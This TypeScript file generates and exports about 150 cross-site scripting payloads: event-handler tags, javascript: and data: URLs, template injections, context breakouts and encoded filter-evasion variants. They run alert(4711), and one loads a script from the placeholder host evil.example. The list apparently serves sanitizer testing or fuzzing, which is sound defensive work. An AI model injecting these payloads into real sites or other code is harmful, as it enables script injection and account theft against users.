/** A hundred and fifty texts that run a script wherever a page takes text for markup. */

const RUN = 'alert(4711)'
/** Characters as entities, which a browser decodes in attributes. */
const entities = (text: string): string =>
  [...text].map((character) => `&#${character.codePointAt(0)};`).join('')

const EVENTS = [
  '<img src=x onerror=RUN>',
  '<svg onload=RUN>',
  '<svg/onload=RUN>',
  '<body onload=RUN>',
  '<iframe onload=RUN></iframe>',
  '<video src=x onerror=RUN></video>',
  '<audio src=x onerror=RUN>',
  '<input autofocus onfocus=RUN>',
  '<details open ontoggle=RUN>x</details>',
  '<select autofocus onfocus=RUN>',
  '<textarea autofocus onfocus=RUN>',
  '<marquee onstart=RUN>x</marquee>',
  '<object data=x onerror=RUN>',
  '<style onload=RUN></style>',
  '<link rel=stylesheet href=x onerror=RUN>',
  '<math><mtext><img src=x onerror=RUN></mtext></math>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><a><rect onclick=RUN width=9 height=9></rect></a></svg>',
]

const SCRIPTS = [
  '<script>RUN</script>',
  '<ScRiPt>RUN</sCrIpT>',
  '<script src="data:text/javascript,RUN"></script>',
  '<script/x>RUN</script>',
  '<scr<script>ipt>RUN</scr</script>ipt>',
  '<svg><script>RUN</script></svg>',
  '<iframe src="javascript:RUN"></iframe>',
  '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<object data="javascript:RUN"></object>',
  '<embed src="javascript:RUN">',
  '<a href="javascript:RUN">x</a>',
  '<form action="javascript:RUN"><button>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=javascript:RUN">',
  '<base href="javascript:RUN//">',
]

const BREAKOUTS = [
  '"',
  "'",
  '">',
  "'>",
  '--\u003e',
  '</title>',
  '</textarea>',
  '</script>',
  '</style>',
  '</noscript>',
  ']]>',
  '\\">',
]

const ADDRESSES = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  ' javascript:RUN',
  '\u0001javascript:RUN',
  'java\tscript:RUN',
  'java\nscript:RUN',
  'javascript://%0aRUN',
  'data:text/html,<script>RUN</script>',
  'vbscript:RUN',
  '//evil.example/x.js',
]

const TEMPLATES = [
  '{{RUN}}',
  '${RUN}',
  '<%= RUN %>',
  '{{constructor.constructor("RUN")()}}',
  '#{RUN}',
  '[[RUN]]',
  '<!--RUN-->',
  '<![CDATA[<script>RUN</script>]]>',
]

const withRun = (texts: readonly string[]): string[] => texts.map((text) => text.replaceAll('RUN', RUN))

const [events, scripts] = [withRun(EVENTS), withRun(SCRIPTS)]

export const ATTACKS: readonly string[] = [
  ...events,
  ...scripts,
  ...withRun(ADDRESSES),
  ...withRun(TEMPLATES),
  // Out of an attribute, a comment or an element that holds text.
  ...BREAKOUTS.flatMap((out) => [
    `${out}${scripts[0]}`,
    `${out}${events[0]}`,
    `${out} onmouseover=${RUN} x=`,
  ]),
  // Decoded once, twice, or by a browser alone.
  ...events.map((text) => encodeURIComponent(text)),
  ...scripts.map((text) => entities(text)),
  ...events.map((text) => text.replace('<', '＜').replace('>', '＞')),
  ...scripts.map((text) => text.replaceAll('<', '\\u003c')),
]
